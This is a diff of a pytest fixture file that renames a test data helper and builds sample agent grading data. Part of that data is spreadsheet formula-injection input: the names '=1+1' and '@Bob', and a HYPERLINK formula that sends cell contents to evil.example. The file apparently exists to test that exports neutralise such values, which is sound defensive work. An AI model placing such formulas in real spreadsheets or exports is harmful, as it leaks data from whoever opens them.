@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.warehouse.desk import ANSWER, SECTION, TOTAL, Desk, csv_text
+from tests.warehouse.data_folder import ANSWER, SECTION, TOTAL, DataFolder, csv_text
 
 Run = Callable[..., "subprocess.CompletedProcess[bytes]"]
 
@@ -19,7 +19,7 @@ FORMULA = '=HYPERLINK("http://evil.example/"&A1;"click")'
 @pytest.fixture(scope="session")
 def data_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """Grades of four agents of two teams by three graders, some with text that a spreadsheet would evaluate."""
-    desk = Desk(tmp_path_factory.mktemp("cli") / "data")
+    data = DataFolder(tmp_path_factory.mktemp("cli") / "data")
     names = ("Ann", "=1+1", "@Bob", "Cy Young")
     grades = [
         {
@@ -33,7 +33,7 @@ def data_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
         }
         for ticket in range(120)
     ]
-    desk.land_rows(
+    data.land_rows(
         total_scores=[
             TOTAL | each | {"rubric_score": each["score"], "comment": FORMULA if number % 50 == 0 else "Fine"}
             for number, each in enumerate(grades)
@@ -45,10 +45,10 @@ def data_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
         {"group_id": f"g{n % 2}", "group_name": f"Team {n % 2}", "agent_ids": f"07{n}", "agent_name": names[n]}
         for n in range(4)
     ]
-    desk.land(csv_text("agent_groups", members).encode(), kind="groups")
-    desk.master.publish()
-    desk.master.close()
-    return desk.folder
+    data.land(csv_text("agent_groups", members).encode(), kind="groups")
+    data.master.publish()
+    data.master.close()
+    return data.folder
 
 
 @pytest.fixture(scope="session")
